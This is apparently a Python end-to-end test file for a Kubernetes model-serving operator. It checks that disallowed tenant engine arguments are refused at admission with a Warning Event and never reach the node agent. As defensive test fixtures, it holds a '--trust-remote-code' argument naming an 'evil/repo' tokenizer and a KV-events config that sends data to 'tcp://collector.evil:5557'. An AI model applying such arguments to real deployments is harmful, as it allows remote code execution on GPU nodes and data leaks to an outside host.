"""End to end on a real kube-apiserver: engine arguments a tenant may not set stop a
ModelDeployment at the operator's admission, with a clear condition and a Warning Event, and
never reach the node agent; an argument the admin allowed (``--allow-engine-arg`` on the
operator and the agent, as the chart passes ``engineArgs.extraAllowed``) starts an instance, and
only that one.

The operator runs under the chart's ServiceAccount token (its RBAC) against a real agent
process (simulated GPUs, tests/e2e/agent_proc.py).
"""

from __future__ import annotations

import json
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from e2e_support import (
    REPO,
    describe_agents,
    get_json,
    install_for_operator,
    instances_of,
    slots_of,
    write_models,
)

from warmserve.testing.procs import Procs, wait_for
from warmserve.testing.stack import WINDOW_S as W

SETTLE_S = 40.0
WIDENED = "disable_log_stats"  # --disable-log-stats: not a tenant's by default (node metrics)
# kv_events_config publishes the engine's KV-cache events to an endpoint: widenable, not a tenant's
EVIL_EVENTS = '{"publisher": "zmq", "endpoint": "tcp://collector.evil:5557"}'


def _md(ns: str, name: str, model: str, args: list[str]) -> dict[str, Any]:
    return {
        "apiVersion": "warmserve.io/v1alpha1",
        "kind": "ModelDeployment",
        "metadata": {"name": name, "namespace": ns},
        "spec": {
            "model": {"name": model},
            "minInstances": 1,
            "maxInstances": 1,
            "engine": {"args": args},
        },
    }


def _cond(kubectl: Any, ns: str, name: str, kind: str) -> dict[str, Any]:
    conds = get_json(kubectl, "wsmd", name, "-n", ns).get("status", {}).get("conditions", [])
    return next((c for c in conds if c["type"] == kind), {})


class Stack:
    """One agent process (simulated GPUs) registered as a GPUNode, and the operator under the
    chart's ServiceAccount, both with ``allow`` as their --allow-engine-arg flags."""

    def __init__(self, ctx: dict[str, Any], allow: list[str]) -> None:
        kubectl, procs, tmp_path = ctx["kubectl"], ctx["procs"], ctx["tmp_path"]
        self.kubectl, self.procs, self.tmp = kubectl, procs, tmp_path
        self.ns = ns = ctx["k8s_namespace"]
        op_kubeconfig, env = install_for_operator(
            kubectl, ctx["helm"], ctx["sa_kubeconfig"], ns, f"ea{ns[-8:]}"
        )
        models = tmp_path / "models"
        write_models(models)
        addr_file = tmp_path / "node.addr"
        flags = [a for d in allow for a in ("--allow-engine-arg", d)]
        agent = [sys.executable, str(REPO / "tests/e2e/agent_proc.py"), "--models", str(models)]
        agent += ["--gpus", "4x64MiB", "--node", "node-a", "--address-file", str(addr_file)]
        procs.start("agent", [*agent, "--memory-dir", str(tmp_path / "mem"), *flags], env)
        self.addr = wait_for(
            lambda: addr_file.exists() and addr_file.read_text(), "agent up", 60, self.logs
        )
        self.node = f"{ns}-node-a"
        ctx["request"].addfinalizer(  # GPUNodes are cluster-scoped: never leave them behind
            lambda: kubectl("delete", "gpunode", self.node, "--ignore-not-found", "--wait=false",
                            check=False)
        )  # fmt: skip
        self.apply(
            {
                "apiVersion": "warmserve.io/v1alpha1",
                "kind": "GPUNode",
                "metadata": {"name": self.node},
                "spec": {"agentAddress": self.addr},
            }
        )
        self.operator = [sys.executable, "-m", "warmserve", "operator", "--window-seconds", str(W)]
        self.operator += ["--poll-seconds", "0.5", "--standalone", "--metrics-port", "0"]
        self.operator += ["--namespace", ns, *flags]
        self.op_env = {**env, "KUBECONFIG": str(op_kubeconfig)}

    def apply(self, *objs: dict[str, Any]) -> None:
        items = {"apiVersion": "v1", "kind": "List", "items": list(objs)}
        self.kubectl("apply", "-f", "-", input=json.dumps(items))

    def start_operator(self) -> None:
        self.procs.start("operator", self.operator, self.op_env)

    def logs(self) -> str:
        return self.procs.log("operator") + "\n" + self.procs.log("agent")

    def serves(self, name: str) -> None:
        wait_for(
            lambda: get_json(self.kubectl, "wsmd", name, "-n", self.ns).get("status", {}).get(
                "instanceCount"
            ) == 1,
            f"{name} serves an instance", SETTLE_S, self.logs,
        )  # fmt: skip

    def refused(self, name: str, flag: str, hint: str) -> None:
        """Degraded/InvalidSpec naming ``flag`` (and ``hint``), Ready False, a Warning Event."""
        kubectl, ns = self.kubectl, self.ns
        cond = wait_for(
            lambda: _cond(kubectl, ns, name, "Degraded").get("reason") == "InvalidSpec"
            and _cond(kubectl, ns, name, "Degraded"),
            f"{name}: Degraded InvalidSpec", SETTLE_S, self.logs,
        )  # fmt: skip
        assert cond["status"] == "True"
        assert f"spec.engine.args: {flag}: not allowed for tenants" in cond["message"], cond
        assert hint in cond["message"], cond
        assert _cond(kubectl, ns, name, "Ready").get("status") == "False"
        events = get_json(
            kubectl, "events", "-n", ns, "--field-selector", f"involvedObject.name={name}"
        )["items"]
        assert any(
            e["type"] == "Warning" and e["reason"] == "InvalidSpec" and flag in e["message"]
            for e in events
        ), events

    def never_reached_the_agent(self, *models: str) -> None:
        snaps = describe_agents({self.node: self.addr})
        agent_log = (self.tmp / "agent.log").read_text()
        for model in models:
            assert not instances_of(snaps, model) and not slots_of(snaps, model), snaps
            assert f"model={model}" not in agent_log


@pytest.fixture
def ctx(
    k8s_control_plane: Any,
    k8s_namespace: str,
    kubectl: Any,
    helm: Any,
    sa_kubeconfig: Any,
    procs: Procs,
    tmp_path: Path,
    request: pytest.FixtureRequest,
) -> dict[str, Any]:
    return {
        "kubectl": kubectl,
        "helm": helm,
        "sa_kubeconfig": sa_kubeconfig,
        "k8s_namespace": k8s_namespace,
        "procs": procs,
        "tmp_path": tmp_path,
        "request": request,
    }


def test_disallowed_engine_args_stop_at_admission_and_never_reach_the_agent(
    ctx: dict[str, Any],
) -> None:
    s = Stack(ctx, allow=[])
    s.apply(
        # the finding: remote code from a repository the tenant names
        _md(s.ns, "remote-code", "tiny-chat", ["--trust-remote-code", "--tokenizer", "evil/repo"]),
        # a network endpoint: widenable, but this admin did not
        _md(s.ns, "events", "tiny-big", [f"--kv-events-config={EVIL_EVENTS}"]),
        # arguments every tenant may set: the operator acts on this one
        _md(s.ns, "plain", "tiny-code", ["--max-model-len=256", "--enforce-eager"]),
    )
    s.start_operator()
    t0 = time.monotonic()
    s.serves("plain")
    s.refused("remote-code", "--trust-remote-code", "it can run code on the GPU node")
    s.refused("events", "--kv-events-config", "--allow-engine-arg kv_events_config")
    time.sleep(max(0.0, 3.0 - (time.monotonic() - t0)))  # several polls after admission
    s.never_reached_the_agent("tiny-chat", "tiny-big")
    assert "model=tiny-code" in (s.tmp / "agent.log").read_text()


def test_admin_widening_through_the_operator_and_agent_flags(ctx: dict[str, Any]) -> None:
    s = Stack(ctx, allow=[WIDENED])
    s.apply(
        _md(s.ns, "widened", "tiny-code", ["--max-model-len=256", "--disable-log-stats"]),
        # widening one argument widens nothing else
        _md(s.ns, "events", "tiny-big", [f"--kv-events-config={EVIL_EVENTS}"]),
    )
    s.start_operator()
    s.serves("widened")
    s.refused("events", "--kv-events-config", "--allow-engine-arg kv_events_config")
    s.never_reached_the_agent("tiny-big")
